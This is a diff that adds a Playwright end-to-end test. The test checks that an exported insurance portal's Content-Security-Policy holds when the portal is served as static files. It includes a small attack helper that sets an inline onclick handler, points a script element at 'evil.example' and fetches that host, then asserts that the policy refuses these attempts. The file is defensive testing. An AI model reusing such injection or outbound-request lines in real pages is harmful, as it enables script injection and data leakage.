@@ -1,0 +1,80 @@
+import path from 'node:path';
+import type { Page } from '@playwright/test';
+import { removeFolder, temporaryFolder } from '../support/data-folder.ts';
+import { goByMenu } from '../support/menus.ts';
+import { keysDir } from '../support/places.ts';
+import { release } from '../support/release.ts';
+import { loginForm, sendLogin } from '../support/sign-in.ts';
+import { serveSite } from '../support/static-site.ts';
+import { expect, mainPortalUrl, test } from '../support/test.ts';
+
+/** Tries to make script of text, to load one from elsewhere, and to send something there; whether any script ran. */
+const attack = (page: Page) =>
+  page.evaluate(async () => {
+    const tries = [
+      () => document.body.setAttribute('onclick', 'globalThis.ran = true'),
+      () => document.body.click(),
+      () => Reflect.set(document.createElement('script'), 'src', 'https://evil.example/x.js'),
+      () => fetch('https://evil.example/'),
+    ];
+    for (const one of tries) {
+      try {
+        await one();
+      } catch {
+        // Refused: the page's policy tells.
+      }
+    }
+    return 'ran' in globalThis;
+  });
+
+test('@cross SEC-41 the portal as files behind a plain server that hands /api on: sign-in, all remotes, a deep address, its policy in force', async ({
+  page,
+  watch,
+}) => {
+  test.setTimeout(120_000);
+  // Where the operator's token is; of a portal elsewhere it stands beside the keys.
+  const dataDir = process.env.E2E_PORTAL_DATA ?? path.dirname(keysDir);
+  const portal = { url: mainPortalUrl(), dataDir };
+  const folder = await temporaryFolder('site');
+  const out = path.join(folder, 'site');
+  await release(portal, 'export', '--out', out);
+
+  // With the headers of `_headers`: that policy and the one in each page let all of the portal do its work.
+  const site = await serveSite(out, portal.url, { headers: true });
+  const origins = new Set<string>();
+  const calls = new Map<string, number>();
+  page.on('response', (response) => {
+    const { origin, pathname } = new URL(response.url());
+    origins.add(origin);
+    if (pathname.startsWith('/api/')) calls.set(pathname, response.status());
+  });
+  await page.goto(`${site.url}/login`);
+  await sendLogin(loginForm(page), '20000009');
+  await expect(page.getByRole('heading', { level: 1, name: /^Chào buổi/ })).toBeVisible();
+  await goByMenu(page, 'Hợp đồng', 'Tra cứu hợp đồng');
+  await page.getByRole('table').getByRole('link').first().click();
+  await expect(page.getByRole('tab').first()).toBeVisible();
+  // An address with a variable is no file: 404.html starts the portal, which draws the page.
+  watch.allow(/404 \(Not Found\) \(\S+\/policy-management\/detail\//);
+  await page.reload();
+  await expect(page.getByRole('tab').first()).toBeVisible();
+  await goByMenu(page, 'Cá nhân', 'Cài đặt tài khoản');
+  await expect(page.getByRole('main')).toContainText('20000009');
+  expect([...origins]).toEqual([site.url]);
+  expect(calls.get('/api/releases/mine')).toBe(200);
+  expect([...calls].filter(([, status]) => status >= 400)).toEqual([]);
+
+  // From a server that sends no header at all, the page's own policy stands alone.
+  const plain = await serveSite(out, portal.url, { headers: false });
+  await page.goto(`${plain.url}/login`);
+  await expect(loginForm(page)).toBeVisible();
+  expect(watch.faults()).toEqual([]);
+  expect(await attack(page)).toBe(false);
+  const refused = () => watch.faults().flatMap((fault) => /^policy: (\S+)/.exec(fault)?.[1] ?? []);
+  await expect
+    .poll(() => [...new Set(refused())].sort())
+    .toEqual(['connect-src', 'require-trusted-types-for']);
+  watch.allow(/evil\.example/, /Trusted|globalThis\.ran/);
+  await Promise.all([site.close(), plain.close()]);
+  await removeFolder(folder);
+});
